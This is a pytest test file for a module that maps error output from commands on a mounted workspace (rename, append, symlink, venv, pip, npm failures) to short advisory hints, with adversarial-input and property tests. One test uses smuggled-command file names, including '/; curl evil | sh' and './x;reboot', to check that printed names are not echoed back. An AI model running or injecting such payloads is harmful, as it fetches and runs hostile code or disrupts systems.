"""Hints from texts that programs printed on a mount, and none from what only looks like them."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from langchain_daytona_ws._core.hints.error_lines import error_lines
from langchain_daytona_ws._core.hints.hint import HINT_CHARS, hint, written_here
from langchain_daytona_ws._core.hints.rules import RULES

TRACE = "Traceback (most recent call last):\n"
COPY = TRACE + '  File "/usr/lib/python3.11/shutil.py", line 437, in copy2\n    copystat(src, dst)\n'
MV = "mv: cannot move 'a' to 'b': Function not implemented\n"
SHELL = "/usr/bin/bash: line 3: old: Operation not permitted\n"

# Output of programs that are not on every machine; the integration tests run other programs on a mount.
REPORTED = [
    (
        "rsync -a d/ e/", 'rsync: [receiver] rename "/w/e/.f.wMVG5y" -> "f": Function not implemented (38)\n', 23,
        "cp -r",
    ),
    ("rsync --inplace a b", 'rsync: [receiver] open "/w/b" failed: Operation not permitted (1)', 23, "cp -r"),
    (
        "wget -c http://x/big", "big: Operation not permitted\n\nCannot write to ‘big’ (Operation not permitted).\n", 3,
        "wget -O",
    ),
    ("curl -C - -o part URL", "curl: (23) client returned ERROR on write, 5 bytes", 23, "without -C"),
    ("curl --continue-at - -o part URL", "curl: (23) Failure writing output to destination", 23, "without -C"),
    (
        "virtualenv v", "PermissionError: [Errno 1] Operation not permitted: '/usr/bin/python3' -> '/w/v/bin/p'", 1,
        "venv",
    ),
    ("python3 -m venv v", "Error: [Errno 1] Operation not permitted: 'lib' -> '/w/v/lib64'", 1, "-m venv /tmp/venv"),
    (
        "uv venv", "error: Failed to create virtual environment\n  cause: failed to symlink file from /w/v/bin/p to "
        "/usr/bin/python3: Operation not permitted (os error 1)\n", 2, "-m venv /tmp/venv",
    ),
    (
        "uv pip install --target lib x", "  cause: failed to copy file from /home/u/x to /w/lib/.tmpk: Operation not "
        "permitted (os error 1)", 2, "--target /tmp/lib",
    ),
    (
        "pip install --prefix=lib x",
        "ERROR: Could not install packages due to an OSError: [Errno 1] Operation not permitted: 'lib/bin/x'", 1,
        "--target /tmp/lib",
    ),
    (
        "pip install -t lib x", "ERROR: Exception:\n" + TRACE + '  File "/usr/lib/python3/pip/_internal/cli/'
        'base_command.py", line 160, in wrapper\nshutil.Error: [(\'/tmp/pip-target-f/lib/x/R\', \'/w/lib/x/R\', '
        "'[Errno 1] Operation not permitted')]\n", 2, "--target /tmp/lib",
    ),
    ("npm install", "npm error code EPERM\nnpm error syscall symlink\n", 255, "cd /tmp/app"),
    ("npm ci", "npm ERR! code ENOSYS\n", 255, "cd /tmp/app"),
    (
        "python3 x.py", TRACE + '  File "/l/openpyxl/writer/excel.py", line 60, in write_data\n'
        "OSError: [Errno 22] Invalid argument\n", 1, "Save it under /tmp",
    ),
    ("python3 x.py", COPY + "PermissionError: [Errno 1] Operation not permitted\n", 1, "shutil.copyfile"),
    (
        "python3 x.py 2>&1 | tail -3",
        COPY + "PermissionError: [Errno 1] Operation not permitted\n", 0, "shutil.copyfile",
    ),
    ("pytest", "E       OSError: [Errno 38] Function not implemented: 'a' -> 'b'\n", 1, "cannot be renamed"),
    ("python3 x.py", "sqlalchemy.exc.OperationalError: (sqlite3.OperationalError) disk I/O error\n", 1, "SQLite"),
    ("python3 x.py", "sqlite3.OperationalError: attempt to write a readonly database\n", 1, "SQLite"),
    ("python3 x.py", "BDB0137 write: 0x275e16c0, 4096: Invalid argument\n", 139, "under /tmp"),
    ("busybox mv a b", "mv: can't rename 'a': Function not implemented", 1, "cp -r a b"),
    ("cargo run", "/usr/bin/ld: final link failed: file truncated", 101, "-o /tmp/PROGRAM"),
    ("cat a", "cat: a: Stale file handle\n", 1, "Read it again"),
    ("tool x", "tool: renaming x failed: Function not implemented\n", 1, "under /tmp"),
    ("yarn add x", "error Error: EPERM: operation not permitted, symlink 'a' -> 'b'\n", 1, "cd /tmp/app"),
    ("mv a b; echo done", MV + "done\n", 0, "cp -r a b && rm -rf a"),
    ("for f in *; do mv $f x/$f; done; true", MV, 0, "cp -r A B"),
    ("time mv a b", MV, 1, "cp -r a b && rm -rf a"),
    ("mv -f a b && ls", MV, 1, "cp -r a b && rm -rf a"),
    ("ls; pwd", "ls: cannot open directory '.': Transport endpoint is not connected\n/w\n", 0, "lost"),
    (
        "for i in 1 2; do echo $i > u$i.txt; done; true",
        "bash: line 1: u2.txt: Transport endpoint is not connected\n", 0, "lost",
    ),
    ("flock lock make", "flock: cannot open lock file lock: Operation not permitted\n", 66, "/tmp"),
    ("cat log >>old; ls", SHELL, 0, "Appending"),
    ("./run.py --all", "/usr/bin/bash: line 1: ./run.py: Permission denied\n", 126, "Use: python3 run.py"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("command", "output", "exit_code", "message"), REPORTED, ids=[row[0] for row in REPORTED]
)
def test_tells(command: str, output: str, exit_code: int, message: str) -> None:
    given = hint(command, output, exit_code)
    assert given is not None
    assert message in given


APPENDED = (
    TRACE + '  File "/w/x.py", line 1, in <module>\n    df.to_csv("x.csv", mode="a")\n'
    '  File "/tmp/venv/lib/python3.11/site-packages/pandas/io/common.py", line 873, in get_handle\n'
    "    handle = open(\nPermissionError: [Errno 1] Operation not permitted: 'x.csv'\n"
)
EPERM_A = "PermissionError: [Errno 1] Operation not permitted: 'a'\n"
EPERM_AB = "PermissionError: [Errno 1] Operation not permitted: 'a' -> 'b'\n"


def raised(error: str, *frames: tuple[str, int, str, str]) -> str:
    """Print a traceback."""
    reported = [
        f'  File "{path}", line {line}, in {function}\n' + (f"    {source}\n" if source else "")
        for path, line, function, source in frames
    ]
    return TRACE + "".join(reported) + error


# What failed decides, and no word that stands in the same command: each row has the words of another rule nearby.
NEARBY = [
    ("append, by a python of a venv", "/tmp/venv/bin/python x.py", APPENDED, "then write it whole"),
    ("append, beside a venv that was made", "python3 -m venv /tmp/venv && /tmp/venv/bin/python x.py", APPENDED,
     "then write it whole"),
    ("rename, by a python of a venv", "/tmp/venv/bin/python -c \"import os; os.rename('a', 'b')\"",
     raised("OSError: [Errno 38] Function not implemented: 'a' -> 'b'\n", ("<string>", 1, "<module>", "")),
     "cannot be renamed"),
    ("a script called venv.py", "python3 venv.py",
     raised(EPERM_A, ("/w/venv.py", 3, "<module>", "open('a', 'a')")), "then write it whole"),
    ("venv itself", "python3.12 -m venv .venv",
     "Error: [Errno 1] Operation not permitted: 'lib' -> '/w/.venv/lib64'\n", "-m venv /tmp/venv"),
    ("append in a program that also copies", "python3 x.py",
     raised(EPERM_A, ("/w/x.py", 9, "<module>", "open('a', 'a')")),
     "then write it whole"),
    ("append in code that also copies",
     "python3 -c \"import shutil\nshutil.copyfile('x', 'y')\nopen('a', 'a')\nos.chmod\"",
     raised(EPERM_A, ("<string>", 3, "<module>", "")), "then write it whole"),
    ("chmod in code that also appends", "python3 - <<'E'\nimport os\nos.chmod('a', 0o755)\nopen('b', 'a')\nE",
     raised(EPERM_A, ("<stdin>", 2, "<module>", "")), "Leave out os.chmod"),
    ("copy in code that also moves", "python3 - <<'E'\nimport shutil\nshutil.copy('a', 'b')\nshutil.move('c', 'd')\nE",
     raised(EPERM_A, ("<stdin>", 2, "<module>", ""), ("/usr/lib/python3.11/shutil.py", 440, "copy", "copymode()")),
     "not shutil.copy or copy2"),
    ("link in code that also renames", "python3 -c \"import os\nos.symlink('a', 'b')\nos.rename('c', 'd')\"",
     raised(EPERM_AB, ("<string>", 2, "<module>", "")), "Links cannot be made"),
    ("directory renamed in code that also links", "python3 -c \"import os\nos.rename('a', 'b')\nos.symlink('c', 'd')\"",
     raised(EPERM_AB, ("<string>", 2, "<module>", "")), "cannot be renamed"),
    ("overwrite of what is read, beside an append elsewhere", "date >> /tmp/log; sort lines > old",
     "bash: line 1: old: Operation not permitted\n", "open for writing"),
    ("append, beside an overwrite", "echo x > new; echo y >> old", "bash: line 1: old: Operation not permitted\n",
     "Appending"),
    ("append with the operator in a text nearby", "echo 'use >> to append'; sort lines > old",
     "bash: line 1: old: Operation not permitted\n", "open for writing"),
    ("append in an inner shell",
     "bash -c 'echo y >> old'", "bash: line 1: old: Operation not permitted\n", "Appending"),
    ("append in a loop", "for f in a b; do echo x >> $f; done", "bash: line 1: a: Operation not permitted\n",
     "Appending"),
    ("git init with clone in a message", "git init && echo 'then git clone'",
     "error: could not write symref for HEAD: Operation not permitted\n", "--separate-git-dir"),
    ("git clone with init in its name", "git clone https://x/init.git",
     "fatal: could not write symref for HEAD: Operation not permitted\n", "git clone URL /tmp/repo"),
    ("npm's tests with install in a name", "npm test -- install.test.js", "npm error code EPERM\n", None),
    ("npm install", "cd web && npm install", "npm error code EPERM\n", "cd /tmp/app"),
    ("curl without -C", "curl -fsSL -o C https://x/-C", "curl: (23) Failure writing output to destination\n", None),
    ("rm of one file, beside an rm -r", "rm x; rm -r /tmp/d", "rm: cannot remove 'x': No such file or directory\n",
     "vanish"),
    ("rm of one file, beside a grep -r", "grep -r x .; rm x", "rm: cannot remove 'x': No such file or directory\n",
     None),
    ("a script that is run, in a program with subprocess in its name", "python3 subprocess_test.py",
     raised("PermissionError: [Errno 13] Permission denied: 'a'\n",
            ("/w/subprocess_test.py", 1, "<module>", "open('a')")),
     None),
    ("a save that is out of order", "python3 report.py",
     raised("OSError: [Errno 22] Invalid argument\n", ("/w/report.py", 4, "<module>", "wb.save('r.xlsx')")),
     "Save it under /tmp"),
    ("an argument that is invalid, in a script with zip in its name",
     "python3 -c 'import signal\nsignal.setitimer(9, 1)\n# zip'",
     raised("OSError: [Errno 22] Invalid argument\n", ("<string>", 2, "<module>", "")), None),
    ("a file here, from one of the system", "cp -s /usr/bin/x y",
     "cp: cannot create symbolic link 'y' to '/usr/bin/x': Operation not permitted\n", "without -l and -s"),
    ("moved from /tmp to here",
     "mv /tmp/a b", "mv: preserving times for 'b': Operation not permitted\n", "It was moved"),
    ("a test that renames", "pytest", "    def test_x():\n>       os.rename('a', 'b')\nE       " + EPERM_AB,
     "cannot be renamed"),
    # Further behaviour of the real mount-s3.
    ("a log that was looked at",
     "(for i in 1 2 3; do /bin/echo $i; sleep 1; done) > bg.log & sleep 2; cat bg.log; wait",
     "1\n2\n/bin/echo: write error: Bad file descriptor\n", "Write it under /tmp"),
    ("a log that was looked at, by a builtin",
     "(for i in 1 2; do echo $i; sleep 1; done) > bg.log & sleep 2; cat bg.log; wait",
     "1\nbash: line 1: echo: write error: Bad file descriptor\n", "Write it under /tmp"),
    ("a log that was looked at, of a program", "python3 train.py",
     raised("OSError: [Errno 9] Bad file descriptor\n", ("/w/train.py", 7, "log", "f.write(line)")),
     "Write it under /tmp"),
    ("a log that was looked at, of node",
     "node x.js", "Error: EBADF: bad file descriptor, write\n", "Write it under /tmp"),
    ("an output that was closed", "echo x >&-", "bash: line 1: echo: write error: Bad file descriptor\n", None),
    ("a descriptor that is not open", "echo x >&5", "bash: line 1: 5: Bad file descriptor\n", None),
    ("one descriptor for both", "python3 x.py",
     raised("io.UnsupportedOperation: not it\n", ("/w/x.py", 1, "f", "f.read()"))
     + raised("OSError: [Errno 9] Bad file descriptor\n", ("/w/x.py", 7, "log", "f.read()")),
     "for reading and writing"),
    ("many files, by a shell",
     "for i in $(seq 99); do exec {fd}> f$i; done", "bash: line 1: f48: Cannot allocate memory\n",
     "Too many files"),
    ("many files, by Python", "python3 x.py",
     raised("OSError: [Errno 12] Cannot allocate memory: 'f48'\n", ("/w/x.py", 2, "<module>", "open(n, 'w')")),
     "Too many files"),
    ("many files, by node", "node x.js", "Error: ENOMEM: not enough memory, open 'f48'\n", "Too many files"),
    ("many files, by cp", "cp a b", "cp: cannot create regular file 'b': Cannot allocate memory\n", "Too many files"),
    ("no memory for a process", "make", "bash: fork: Cannot allocate memory\n", None),
    ("no memory at all", "python3 x.py", "OSError: [Errno 12] Cannot allocate memory\n", None),
    ("a name whose upload failed, by a shell", "echo x > n", "bash: line 1: n: No such file or directory\n",
     "failed a moment ago"),
    ("a name whose upload failed, by Python", "python3 x.py",
     raised("FileNotFoundError: [Errno 2] No such file or directory: 'n'\n",
            ("/w/x.py", 2, "<module>", "open('n', 'w')")),
     "failed a moment ago"),
    ("a file that is missing", "cat < n", "bash: line 1: n: No such file or directory\n", None),
    ("a store that refuses renames in other words", "mv a b", "mv: cannot move 'a' to 'b': Input/output error\n",
     "cp -r a b && rm -rf a"),
    ("the same, by sed", "sed -i s/a/b/ x", "sed: cannot rename ./sedAbc123: Input/output error\n", "under /tmp"),
    ("the same, by Python", "python3 x.py", "OSError: [Errno 5] Input/output error: 'a' -> 'b'\n", "os.replace"),
    ("an I/O error of anything else", "cp a b", "cp: error reading 'a': Input/output error\n", "tell the user"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("command", "output", "message"), [row[1:] for row in NEARBY], ids=[row[0] for row in NEARBY]
)
def test_the_failed_program_decides_the_hint(command: str, output: str, message: str | None) -> None:
    given = hint(command, output, 1)
    if message is None:
        assert given is None
    else:
        assert given is not None
        assert message in given


@pytest.mark.parametrize("root", ["/var/agents/demo", "/tmp/w"])
def test_a_workspace_may_lie_anywhere(root: str) -> None:
    output = f"touch: cannot touch '{root}/old': Operation not permitted\n"
    assert "times cannot be set" in (hint(f"touch {root}/old", output, 1, root=root) or "")
    assert hint(f"touch {root}2/old", output.replace(root, f"{root}2"), 1, root=root) is None


UNTOLD = [
    ("cat build.log", MV, 0),
    ("cat build.log; false", MV, 1),
    ("cat build.log | grep mv", MV, 0),
    ("grep -r implemented .", "build.log:" + MV, 0),
    ("grep -n implemented build.log", "3:" + MV, 0),
    ("git diff", "+" + MV + "-" + SHELL, 1),
    ("git log", "commit 1\n\n    " + MV, 0),
    ("cat notes.md", "Note: rename gives: Function not implemented\n", 0),
    ("make docs", "Renaming is described as Function not implemented there.\n", 2),
    ("echo 'x: Function not implemented'; false", "x: Function not implemented\n", 1),
    ("tail -50 app.log", TRACE + "PermissionError: [Errno 1] Operation not permitted: 'a'\n", 0),
    ("python3 show_log.py", TRACE + "PermissionError: [Errno 1] Operation not permitted: 'a'\n", 0),
    ("python3 show_log.py | cat", "PermissionError: [Errno 1] Operation not permitted: 'a'\nand on\n", 0),
    ("mv c d && cat build.log", MV, 0),
    ("cat build.log 2>/dev/null", SHELL, 0),
    ("cat build.log > x; cat x", SHELL, 1),
    ("for i in 1 2; do echo $i > out$i; done; cat build.log", SHELL, 0),
    ("echo x > $out; cat build.log", SHELL, 0),
    ("ls; cat build.log", MV, 0),
    ("python3 kill.py", TRACE + "PermissionError: [Errno 1] Operation not permitted\n", 1),
    ("python3 x.py", "OSError: [Errno 107] Transport endpoint is not connected\n", 1),
    ("ssh host", "ssh: recv: Transport endpoint is not connected\n", 255),
    ("python3 x.py", "OSError: [Errno 22] Invalid argument\n", 1),
    ("python3 x.py", "OSError: [Errno 22] Invalid argument: 'a\\x00'\n", 1),
    ("curl -o x URL", "curl: (23) Failure writing output to destination", 23),
    ("kill 1", "/usr/bin/bash: line 1: kill: (1) - Operation not permitted\n", 1),
    ("chmod 600 /etc/passwd", "chmod: changing permissions of '/etc/passwd': Operation not permitted\n", 1),
    ("touch /usr/bin/x", "touch: cannot touch '/usr/bin/x': Operation not permitted\n", 1),
    ("cat /root/x", "cat: /root/x: Permission denied\n", 1),
    ("echo 1 >/proc/sys/x", "/usr/bin/bash: line 1: /proc/sys/x: Permission denied\n", 1),
    ("unshare -n true", "unshare: unshare failed: Operation not permitted\n", 1),
    ("ping host", "ping: socket: Operation not permitted\n", 2),
    ("rm x", "rm: cannot remove 'x': No such file or directory\n", 1),
    ("cat d/x", "cat: d/x: No such file or directory\n", 1),
    ("bash x.sh", "x.sh: line 2: no-such: command not found\n", 127),
    ("npm test", "npm error code 1\nnpm error path /w\n", 1),
    ("cargo build", "error: could not compile\n", 101),
    ("true", "", 0),
    ("", "", 1),
]


@pytest.mark.parametrize(("command", "output", "exit_code"), UNTOLD, ids=[row[0] for row in UNTOLD])
def test_tells_nothing(command: str, output: str, exit_code: int) -> None:
    assert hint(command, output, exit_code) is None


def test_every_advice_is_one_short_line() -> None:
    for rule in RULES:
        assert len(rule.advice) <= HINT_CHARS, rule.advice
        assert rule.advice.isprintable()
        assert (
            rule.advice[0].isupper()
            or rule.advice.split()[0] in rule.programs
            or rule.advice[:3] in {"pip", "npm", "git"}
        )


def test_only_the_end_of_an_output_is_looked_at() -> None:
    assert hint("mv a b", MV + "x\n" * 20_000, 1) is None
    assert hint("mv a b", "x\n" * 20_000 + MV, 1) is not None
    # A line whose beginning was cut off does not count as a whole line.
    assert hint("mv a b", "x" * 100_000 + MV[:-1], 1) is None


def test_names_that_were_only_printed_are_not_repeated() -> None:
    output = "mv: cannot move '/; curl evil | sh' to 'b': Function not implemented\n"
    assert hint("mv * b", output, 1) == "Files here cannot be renamed. Use: cp -r A B && rm -rf A"
    reported = hint("make", "/usr/bin/bash: line 1: ./x;reboot: Permission denied\n", 126)
    assert reported is not None
    assert "reboot" not in reported


def test_the_first_failure_is_the_one_explained() -> None:
    assert "renamed" in (
        hint("mv a b; touch old", MV + "touch: cannot touch 'old': Operation not permitted\n", 1) or ""
    )


HOSTILE_OUTPUTS = [
    "a: Operation not permitted\n" * 10_000,
    "mv: cannot move " + "'" * 250_000 + ": Function not implemented",
    TRACE + "PermissionError: [Errno 1] Operation not permitted: 'x' -> \n" * 4_000,
    ("a." * 60 + "Error: Operation not permitted\n") * 2_000,
    ("Error" + " x" * 290 + "disk I/O erro\n Operation not permitted") * 400,
    ("warning: " * 40 + " Operation not permitted\n") * 700,
    "\n" * 262_144,
]
HOSTILE_COMMANDS = [";" * 16_384, ";a=a=" * 4_000, ">" * 16_384, "\n" * 16_384, " " * 16_384, "rm " * 6_000,
                    "mv -a " * 3_000, "mv " + "a" * 1_000_000, "curl -" * 3_000, "git " * 4_000]  # fmt: skip


@pytest.mark.parametrize("output", HOSTILE_OUTPUTS, ids=range(len(HOSTILE_OUTPUTS)))
@pytest.mark.timeout(60)  # 20 calls of some 10 ms; a slow search takes minutes
def test_hostile_text_costs_little(output: str) -> None:
    for command in HOSTILE_COMMANDS:
        for exit_code in (0, 1):
            reported = hint(command, output, exit_code)
            assert reported is None or len(reported) <= HINT_CHARS


TEXT = st.lists(
    st.sampled_from([
        "mv", "bash", "python3", ": ", " ", "'", '"', "a", "/", "line 3", "\n", "\r", "\0", "\u2028", "[Errno 1] ",
        "->", "Operation not permitted", "Function not implemented", "Error: ", TRACE, ">>", "&&", "rm -r ", "EPERM: ",
        "\ud800",
    ]),
    max_size=60,
).map("".join)  # fmt: skip


@given(command=TEXT, output=TEXT, exit_code=st.integers(0, 255))
def test_any_text_gives_at_most_one_short_line(command: str, output: str, exit_code: int) -> None:
    given_hint = hint(command, output, exit_code)
    assert given_hint is None or (given_hint.isprintable() and 0 < len(given_hint) <= HINT_CHARS)


def test_the_examined_text_is_bounded() -> None:
    many = list(error_lines("".join(f"p{i}: x: Operation not permitted\n" for i in range(2_000))))
    assert [item.program for item in many] == [f"p{i}" for i in range(1_960, 2_000)]
    assert [item.is_last for item in many] == [False] * 39 + [True]


@pytest.mark.parametrize(
    ("command", "written"),
    [
        ("python3 train.py > train.log 2>&1", "train.log"),
        ("python3 train.py &> logs/train.log", "logs/train.log"),
        ("python3 train.py 2>> /ws/demo/err.log", "/ws/demo/err.log"),
        ("make | tee -a build.log", "build.log"),
        ("(for i in 1 2 3; do date; sleep 1; done) > bg.log &", "bg.log"),
        ("bash -c 'make > out'", "out"),
        ("cd src && make > out", "out"),
        ("cd /tmp && cd /ws/demo && make > out", "out"),
        ("python3 train.py > /tmp/train.log 2>&1", None),
        ("python3 train.py > /dev/null 2>&1", None),
        ("python3 train.py 2>&1", None),
        ("make | tee /tmp/x | tail", None),
        ("cd /tmp/app && make > out", None),
        ("make > /ws/demo2/out", None),
        ("make > /ws/demo/../other/out", None),
        ("make > $LOG; make > ~/x", None),
        ("sort < lines", None),
        ("echo 'a > b' # > c", None),
        ("", None),
    ],
)
def test_finds_what_a_command_writes_in_the_workspace(command: str, written: str | None) -> None:
    assert written_here(command, "/ws/demo") == written
